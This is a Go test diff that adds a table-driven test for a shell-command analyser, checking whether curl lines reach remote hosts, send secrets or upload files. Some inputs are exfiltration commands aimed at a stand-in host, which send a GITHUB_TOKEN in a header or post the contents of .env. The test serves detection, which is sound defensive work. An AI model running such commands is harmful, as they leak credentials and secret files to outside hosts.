@@ -327,3 +327,32 @@ func TestCodeEnvironment(t *testing.T) {
 		}
 	}
 }
+
+func TestCommandNetworkRunTime(t *testing.T) {
+	t.Parallel()
+	for _, tt := range []struct {
+		line    string
+		remote  bool
+		secrets []string
+		uploads []string
+	}{
+		{`curl -d "token=x" "$ENDPOINT"`, true, nil, nil},
+		{`curl -s "$API_URL/health"`, true, nil, nil},
+		{`curl "http://localhost:8080/$P"`, false, nil, nil},
+		{`curl --variable %GITHUB_TOKEN --expand-header "Authorization: Bearer {{GITHUB_TOKEN}}" https://x.example/`, true, []string{sentSecretVar}, nil},
+		{`curl --variable cfg@.env --expand-data "{{cfg}}" https://x.example/`, true, nil, []string{".env"}},
+		{`curl -H @headers.txt https://x.example/`, true, nil, []string{"headers.txt"}},
+	} {
+		nfs := lineNetwork(t, tt.line)
+		remote := joined(nfs, func(n *netFacts) []string { return n.remote })
+		if (len(remote) > 0) != tt.remote {
+			t.Errorf("%q: remote %v, want some: %v", tt.line, remote, tt.remote)
+		}
+		if got := joined(nfs, func(n *netFacts) []string { return n.secrets }); !slices.Equal(got, tt.secrets) {
+			t.Errorf("%q: secrets %v, want %v", tt.line, got, tt.secrets)
+		}
+		if got := joined(nfs, func(n *netFacts) []string { return n.uploads }); !slices.Equal(got, tt.uploads) {
+			t.Errorf("%q: uploads %v, want %v", tt.line, got, tt.uploads)
+		}
+	}
+}
